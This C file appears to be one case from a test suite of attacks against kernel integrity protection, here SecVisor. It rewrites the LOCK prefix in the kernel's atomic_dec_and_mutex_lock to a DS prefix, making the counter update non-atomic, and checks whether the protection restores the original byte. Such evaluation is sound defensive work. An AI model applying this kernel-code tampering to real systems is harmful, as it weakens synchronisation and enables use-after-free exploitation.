// Row 13. A legal but weaker variant, where there are two CPUs: LOCK, in the code of a counter, replaced by DS as Linux does on one CPU.
// Source: Linux, arch/x86/kernel/alternative.c (smp_locks); a lost update is a use after free.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"

ATTACK("lock-prefix-weaker")
{
	// It decrements a counter above 1 without taking the lock.
	u64 function = symbol("atomic_dec_and_mutex_lock"), at = find_bytes(function, 64, "\xf0\x0f\xb1", 3);
	u64 count = operate(VULNERABLE_BSS, 0, 0, 0) + PAGE / 2, five = 5;
	struct vulnerable_operation op = { .what = VULNERABLE_CALL_WITH, .in = { function, count, count + 64 } };
	u8 now = 0;

	keep_bytes(at, 1);
	kwrite(at, "\x3e", 1);
	kwrite(count, &five, 8);
	if (try_operate(&op) || kread64(count) != 4)
		failed("the counter is not decremented");
	kread(at, &now, 1);
	if (now == 0x3e)
		succeeded("the counter was decremented without LOCK");
	if (now == 0xf0)
		restored("the counter was decremented with LOCK");
	failed("there is %#x", now);
}
